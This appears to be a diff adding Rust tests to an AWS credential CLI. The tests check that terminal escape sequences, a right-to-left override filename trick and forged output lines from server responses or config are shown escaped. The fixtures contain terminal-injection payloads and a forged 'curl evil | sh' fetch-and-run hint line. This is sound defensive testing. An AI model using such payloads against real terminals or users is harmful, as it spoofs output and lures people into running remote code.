@@ -1,0 +1,145 @@
+//! Hardening, terminal and input safety (issue 11 items 12–18): text from servers and files is
+//! escaped before a person sees it (`--json` keeps exact values), secrets given on the command
+//! line are never repeated, and commands that need no configuration do not read it.
+
+mod support;
+
+use support::{FakeHttp, OutputExt, Response, Sandbox, run};
+
+fn static_profile(sb: &Sandbox) {
+    sb.write_credentials("[default]\naws_access_key_id = AKIA\naws_secret_access_key = s\n");
+}
+
+/// Control characters as XML character references (how a server gets them past the parser).
+fn xml_text(text: &str) -> String {
+    text.chars()
+        .map(|c| match c {
+            c if c.is_control() && c != '\n' => format!("&#x{:x};", c as u32),
+            c => c.to_string(),
+        })
+        .collect()
+}
+
+/// GetCallerIdentity answering with this ARN.
+fn identity_with_arn(arn: &'static str) -> FakeHttp {
+    let arn = xml_text(arn);
+    FakeHttp::new(move |_| {
+        Response::xml(
+            200,
+            &format!(
+                "<GetCallerIdentityResponse xmlns=\"https://sts.amazonaws.com/doc/2011-06-15/\"><GetCallerIdentityResult><Arn>{arn}</Arn><UserId>AIDA</UserId><Account>123456789012</Account></GetCallerIdentityResult><ResponseMetadata><RequestId>r</RequestId></ResponseMetadata></GetCallerIdentityResponse>"
+            ),
+        )
+    })
+}
+
+const FORGED: &str = "\u{1b}]0;owned\u{7}\u{1b}[2J";
+
+#[test]
+fn an_sts_error_message_with_escape_sequences_is_shown_escaped() {
+    // issue 11 item 12: the <Message> changed the window title, cleared the screen and forged
+    // a `hint:` line.
+    let sb = Sandbox::new();
+    static_profile(&sb);
+    let fake = FakeHttp::new(|_| {
+        Response::xml(
+            403,
+            &format!(
+                "<ErrorResponse><Error><Type>Sender</Type><Code>AccessDenied</Code><Message>{}</Message></Error><RequestId>r</RequestId></ErrorResponse>",
+                xml_text(&format!("no{FORGED}\nhint: curl evil | sh \u{202e}gnp.exe"))
+            ),
+        )
+    });
+    let out = run(sb
+        .cmd()
+        .env("AWS_ENDPOINT_URL_STS", fake.url())
+        .args(["whoami"]));
+    out.assert_code(1);
+    let err = out.stderr_str();
+    assert!(!err.contains('\u{1b}') && !err.contains('\u{7}'), "{err:?}");
+    assert!(!err.contains('\u{202e}'), "{err:?}");
+    assert!(
+        !err.lines().any(|l| l.starts_with("hint: curl")),
+        "a forged hint line:\n{err}"
+    );
+    assert!(
+        err.contains("\\x1b]0;owned\\x07\\x1b[2J\\nhint: curl evil"),
+        "{err}"
+    );
+    assert!(err.contains("\\u{202e}gnp.exe"), "{err}");
+    // Our own hint is still there.
+    assert!(
+        err.lines().any(|l| l.starts_with("hint: the identity")),
+        "{err}"
+    );
+}
+
+#[test]
+fn an_arn_with_escape_sequences_is_escaped_in_whoami_but_exact_in_json() {
+    // issue 11 item 12: an ARN with ESC forged an `Account:` line (and `--short` goes in PS1).
+    let arn = "arn:aws:iam::123456789012:user/x\u{1b}[1A\u{1b}[2K\rAccount:     999999999999";
+    let sb = Sandbox::new();
+    static_profile(&sb);
+    let fake = identity_with_arn(arn);
+    let out = run(sb
+        .cmd()
+        .env("AWS_ENDPOINT_URL_STS", fake.url())
+        .args(["whoami"]));
+    out.assert_success();
+    let text = out.stdout_str();
+    assert!(!text.contains('\u{1b}') && !text.contains('\r'), "{text:?}");
+    assert!(
+        text.contains("ARN:         arn:aws:iam::123456789012:user/x\\x1b[1A\\x1b[2K\\rAccount:"),
+        "{text}"
+    );
+    assert_eq!(
+        text.lines().filter(|l| l.starts_with("Account:")).count(),
+        1,
+        "{text}"
+    );
+
+    let out = run(sb
+        .cmd()
+        .env("AWS_ENDPOINT_URL_STS", fake.url())
+        .args(["whoami", "--short"]));
+    out.assert_success();
+    assert_eq!(
+        out.stdout_str(),
+        "arn:aws:iam::123456789012:user/x\\x1b[1A\\x1b[2K\\rAccount:     999999999999\n"
+    );
+
+    let out = run(sb
+        .cmd()
+        .env("AWS_ENDPOINT_URL_STS", fake.url())
+        .args(["whoami", "--json"]));
+    out.assert_success();
+    let doc: serde_json::Value = serde_json::from_str(&out.stdout_str()).unwrap();
+    assert_eq!(doc["arn"], arn, "--json keeps the exact value");
+    assert!(!out.stdout_str().contains('\u{1b}'), "JSON escapes it");
+}
+
+#[test]
+fn a_role_arn_with_escape_sequences_in_the_config_is_escaped_in_messages() {
+    // issue 11 item 12: config values quoted in messages and in --explain.
+    let sb = Sandbox::new();
+    sb.write_config(&format!(
+        "[profile r]\nrole_arn = arn:aws:iam::1:role/x{FORGED}\nsource_profile = base\n"
+    ));
+    sb.write_credentials("[base]\naws_access_key_id = AKIA\naws_secret_access_key = s\n");
+    let port = support::free_port();
+    let out = run(sb
+        .cmd()
+        .env("AWS_ENDPOINT_URL_STS", format!("http://127.0.0.1:{port}"))
+        .args(["export", "--profile", "r", "--explain"]));
+    out.assert_code(1);
+    let err = out.stderr_str();
+    assert!(!err.contains('\u{1b}') && !err.contains('\u{7}'), "{err:?}");
+    assert!(
+        err.contains("  profile       FAILED: AssumeRole arn:aws:iam::1:role/x\\x1b]0;owned\\x07"),
+        "{err}"
+    );
+    assert!(
+        err.contains("caused by: AssumeRole arn:aws:iam::1:role/x\\x1b]0;owned\\x07"),
+        "{err}"
+    );
+}
